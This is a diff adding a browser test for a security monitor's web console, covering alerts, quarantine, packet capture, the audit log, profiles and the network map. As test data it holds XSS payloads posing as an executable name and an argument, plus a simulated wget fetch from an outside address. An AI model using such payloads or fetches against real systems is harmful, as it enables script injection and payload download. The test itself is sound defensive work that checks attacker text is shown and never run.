@@ -1,0 +1,220 @@
+// The console in a real browser (Debian's headless Chromium through
+// playwright-core) against a real engine fed by a synthetic probe over real
+// gRPC: each page loads and shows what the engine knows, the actions
+// clicked there change the engine (mode, quarantine, capture, an anomaly
+// accepted into the profile) and land in the audit log, attacker-made
+// executable names and arguments show as text and never run, and the page
+// raises no error (a CSP violation would be one). Screenshots of each view
+// are kept in test-artifacts/console/.
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterAll, beforeAll, expect, it } from 'vitest';
+import type cytoscape from 'cytoscape';
+import type { AuditEntry } from '../../../src/console/api.js';
+import { openBrowser, screenshot, describeBrowser, type TestBrowser } from '../../support/browser.js';
+import { ConsoleFixture } from '../../support/console.js';
+import { waitFor } from '../../support/kernel.js';
+
+const EVIL_EXE = '/tmp/<img src=x onerror="window.__xss=1">';
+const EVIL_ARG = '</code><script>window.__xss=2</script>';
+
+describeBrowser('the console in a real browser', () => {
+  let f: ConsoleFixture;
+  let b: TestBrowser;
+
+  const audit = (): AuditEntry[] => {
+    try {
+      return readFileSync(join(f.t.dir, 'state', 'console-audit.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as AuditEntry);
+    } catch {
+      return [];
+    }
+  };
+
+  beforeAll(async () => {
+    f = await ConsoleFixture.start(['shop-web', 'shop-db', 'batch']);
+    // What the workloads normally do, learned.
+    const web = f.exec('shop-web', '/usr/bin/node', ['node', 'server.js']);
+    f.open('shop-web', '/srv/app/index.js', false, web);
+    f.listen('shop-db', '0.0.0.0', 5432);
+    f.accept('shop-db', '10.1.0.2', 5432, '10.1.0.3');
+    f.listen('shop-db', '10.1.0.2', 5432);
+    f.connect('shop-web', '10.1.0.2', 5432, web);
+    f.exec('batch', '/usr/bin/python3', ['python3', 'job.py'], { uid: 0 });
+    await waitFor('the first events', () => f.t.events.length === 7);
+    const w = f.t.engine.workloads.find('shop-web')!;
+    expect((await f.t.engine.profiles.changeMode(w, 'monitor')).ok).toBe(true);
+    // Then something new: a crafted executable name and argument, a new destination.
+    f.exec('shop-web', EVIL_EXE, [EVIL_EXE, EVIL_ARG], { ppid: web });
+    f.connect('shop-web', '203.0.113.9', 4444, web);
+    await waitFor('two anomalies', () => f.t.engine.alertsRaised >= 2);
+    b = await openBrowser();
+    // The token handed over in the fragment, as `vigil console url` would print it.
+    await b.page.goto(`${f.base}/#token=${encodeURIComponent(f.token)}`);
+  }, 60_000);
+
+  afterAll(async () => {
+    await b?.close();
+    await f?.stop();
+  });
+
+  it('signs in with the token from the fragment, and takes it out of the address bar', async () => {
+    await b.page.waitForSelector('header nav');
+    expect(b.page.url()).not.toContain(f.token);
+    expect(await b.page.locator('header .node').textContent()).toBe('node test-node');
+    await b.page.waitForSelector('header .live.on');
+  });
+
+  it('Alerts: counts, filters, and an alert opened up — attacker text shown as text', async () => {
+    const page = b.page;
+    await page.waitForSelector('table.alerts-table tbody tr.row');
+    // Two anomalies (new executable, new destination) and the two signature rules the same events hit.
+    expect(await page.locator('table.alerts-table tbody tr.row').count()).toBe(4);
+    expect((await page.locator('table.alerts-table tbody tr.row td:nth-child(3)').allTextContents()).sort()).toEqual(
+      ['Connection to a mining pool port', 'Execution from a temporary directory', 'new-egress', 'new-executable']);
+    // The crafted name is on the page as the characters it is, and nothing of it ran.
+    await page.getByText(`new executable ${EVIL_EXE}`, { exact: false }).first().waitFor();
+    expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
+    expect(await page.locator('img[src="x"]').count()).toBe(0);
+    expect(await page.locator('.chart canvas').count()).toBeGreaterThan(0);
+    await screenshot(page, 'alerts');
+    // Filter by free text, then open the alert.
+    await page.fill('input[name=q]', 'onerror');
+    await page.waitForFunction(() => document.querySelectorAll('table.alerts-table tbody tr.row').length === 2);
+    await page.fill('input[name=q]', 'new executable');
+    await page.waitForFunction(() => document.querySelectorAll('table.alerts-table tbody tr.row').length === 1);
+    await page.locator('table.alerts-table tbody tr.row').first().click();
+    const detail = page.locator('tr.expanded .detail');
+    await detail.waitFor();
+    const text = (await detail.textContent()) ?? '';
+    expect(text).toContain(EVIL_ARG);
+    expect(text).toContain('/usr/bin/node'); // the parent in the ancestry
+    expect(text).toContain('new-executable'); // output field vigil.anomaly
+    expect(await page.locator('tr.expanded script').count()).toBe(0);
+    expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
+    await screenshot(page, 'alert-expanded');
+    // Priority filter: warning or worse still has it; the live stream brings a new one in.
+    await page.selectOption('select[name=priority]', 'warning');
+    await page.fill('input[name=q]', '');
+    await page.waitForFunction(() => document.querySelectorAll('table.alerts-table tbody tr.row').length === 4);
+    f.exec('shop-web', '/usr/bin/wget', ['wget', 'http://203.0.113.9/x']);
+    await page.getByText('new executable /usr/bin/wget').waitFor({ timeout: 10_000 });
+  });
+
+  it('Workloads: mode change, quarantine and capture from the page change the engine, each in the audit log', async () => {
+    const page = b.page;
+    await page.click('header nav a[href="#/workloads"]');
+    const row = page.locator('tr[data-workload="batch"]');
+    await row.waitFor();
+    expect(await page.locator('tr[data-workload="shop-web"] td').nth(4).textContent()).toMatch(/^3 open/); // the crafted executable, the new destination, wget
+    await screenshot(page, 'workloads');
+    await row.locator('select[name=mode]').selectOption('monitor');
+    await row.locator('button.apply-mode').click();
+    await page.locator('.toast.ok', { hasText: 'batch is now in monitor mode' }).waitFor();
+    expect(f.t.engine.workloads.find('batch')!.mode).toBe('monitor');
+    await row.locator('button.quarantine').click();
+    await page.locator('tr[data-workload="batch"] .quarantined').waitFor();
+    expect(f.t.engine.quarantines.isQuarantined('named:batch')).toBe(true);
+    expect(f.probe.commands.some((c) => c.quarantine?.cgroups.some((g) => g.id === f.cgroups.batch))).toBe(true);
+    await page.locator('tr[data-workload="batch"] input[aria-label="capture seconds"]').fill('1');
+    await page.locator('tr[data-workload="batch"] button.start-capture').click();
+    await page.locator('.toast.ok', { hasText: /capturing to batch-.*\.pcap/ }).waitFor();
+    expect(f.probe.commands.some((c) => c.startCapture)).toBe(true);
+    // The audit log, on disk and on the page.
+    await waitFor('capture finished', () => audit().some((e) => e.action === 'capture-finished'), 5000);
+    expect(audit().map((e) => [e.action, e.workload, e.ok, e.actor])).toEqual([
+      ['set-mode', 'batch', true, 'token'],
+      ['quarantine', 'batch', true, 'token'],
+      ['capture', 'batch', true, 'token'],
+      ['capture-finished', 'batch', true, 'token'],
+    ]);
+    await page.locator('table.audit-table').getByText('capture-finished').waitFor();
+    await page.locator('tr[data-workload="batch"] button.release').click();
+    await page.locator('tr[data-workload="batch"] button.quarantine').waitFor();
+    expect(f.t.engine.quarantines.isQuarantined('named:batch')).toBe(false);
+    await screenshot(page, 'workloads-after-actions');
+  });
+
+  it('Profile: what was learned, an anomaly accepted after its diff, and the exports', async () => {
+    const page = b.page;
+    await page.click('tr[data-workload="shop-web"] a');
+    await page.waitForSelector('.page.profile');
+    expect(await page.locator('table.exes').textContent()).toContain('/usr/bin/node');
+    expect(await page.locator('.page.profile').textContent()).toContain('/srv/app/index.js');
+    const anomaly = page.locator('li.anomaly', { hasText: '203.0.113.9' });
+    await anomaly.locator('button.accept').click();
+    const diff = anomaly.locator('pre.diff');
+    await diff.waitFor();
+    expect(await diff.textContent()).toBe('+ egress: tcp 203.0.113.9 port 4444\n');
+    // Shown, not yet applied.
+    expect(f.t.engine.profiles.export('shop-web')[0]!.spec.network.egress.map((r) => r.to)).toEqual(['10.1.0.2']);
+    await screenshot(page, 'profile-accept-diff');
+    await anomaly.locator('button.apply-accept').click();
+    await page.locator('.toast.ok', { hasText: 'is now part of shop-web' }).waitFor();
+    expect(f.t.engine.profiles.export('shop-web')[0]!.spec.network.egress.map((r) => r.to).sort()).toEqual(['10.1.0.2', '203.0.113.9']);
+    expect(audit().at(-1)).toMatchObject({ action: 'accept-anomaly', workload: 'shop-web', ok: true, params: { kind: 'new-egress', what: 'tcp 203.0.113.9:4444' } });
+    await page.locator('li.anomaly', { hasText: '203.0.113.9' }).waitFor({ state: 'detached' });
+    // The crafted executable is still open, shown as text.
+    expect(await page.locator('li.anomaly').count()).toBeGreaterThanOrEqual(1);
+    expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
+    await page.click('button.export-yaml');
+    await page.locator('pre.yaml', { hasText: 'kind: WorkloadProfile' }).waitFor();
+    await page.click('button.export-np');
+    await page.locator('pre.yaml', { hasText: 'kind: NetworkPolicy' }).waitFor();
+    expect(await page.locator('pre.yaml').textContent()).toContain('cidr: 203.0.113.9/32');
+    await screenshot(page, 'profile');
+  });
+
+  it('Network: the map, coloured by state; clicking an edge shows its details', async () => {
+    const page = b.page;
+    await page.click('header nav a[href="#/network"]');
+    await page.waitForSelector('.graph canvas');
+    await page.waitForSelector('table.edges-table tbody tr');
+    const states = await page.locator('table.edges-table .state').allTextContents();
+    expect(states).toContain('learned');
+    expect(states).toContain('anomalous');
+    // Click the web → db edge on the canvas, where cytoscape drew it.
+    const at = await page.evaluate(() => {
+      const el = document.querySelector('.graph') as HTMLElement & { _cyreg?: { cy: cytoscape.Core } };
+      const cy = el._cyreg!.cy;
+      const edge = cy.edges().filter((e) => e.data('label') === '5432/tcp' && e.source().data('label') === 'shop-web')[0]!;
+      const m = edge.renderedMidpoint();
+      const r = el.getBoundingClientRect();
+      return { x: r.left + m.x, y: r.top + m.y };
+    });
+    await page.mouse.click(at.x, at.y);
+    const detail = page.locator('.edge-detail');
+    await detail.waitFor();
+    const text = (await detail.textContent()) ?? '';
+    expect(text).toContain('shop-web → shop-db');
+    expect(text).toMatch(/port5432/);
+    expect(text).toMatch(/protocoltcp/);
+    expect(text).toMatch(/connections1/);
+    await screenshot(page, 'network');
+  });
+
+  it('Risk: scores with their factors, and a report that prints to PDF', async () => {
+    const page = b.page;
+    await page.click('header nav a[href="#/risk"]');
+    await page.waitForSelector('table.risk-table tbody tr');
+    await page.click('tr[data-workload="batch"]');
+    const factors = page.locator('tr.expanded table.factors');
+    await factors.waitFor();
+    expect(await factors.locator('tr[data-factor="root-processes"]').textContent()).toContain('/usr/bin/python3');
+    await screenshot(page, 'risk');
+    await page.click('a.open-report');
+    await page.waitForSelector('article.report h1');
+    expect(await page.locator('article.report h1').textContent()).toBe('Vigil risk report: node test-node');
+    await screenshot(page, 'report');
+    await page.emulateMedia({ media: 'print' });
+    expect(await page.locator('.no-print').isVisible()).toBe(false);
+    const pdf = await page.pdf({ format: 'A4' });
+    expect(pdf.subarray(0, 5).toString()).toBe('%PDF-');
+    const pages = (pdf.toString('latin1').match(/\/Type\s*\/Page[^s]/g) ?? []).length;
+    expect(pages).toBeGreaterThanOrEqual(1);
+    await page.emulateMedia({ media: 'screen' });
+  });
+
+  it('raised no error in the page (CSP violations included)', () => {
+    expect(b.errors).toEqual([]);
+  });
+});
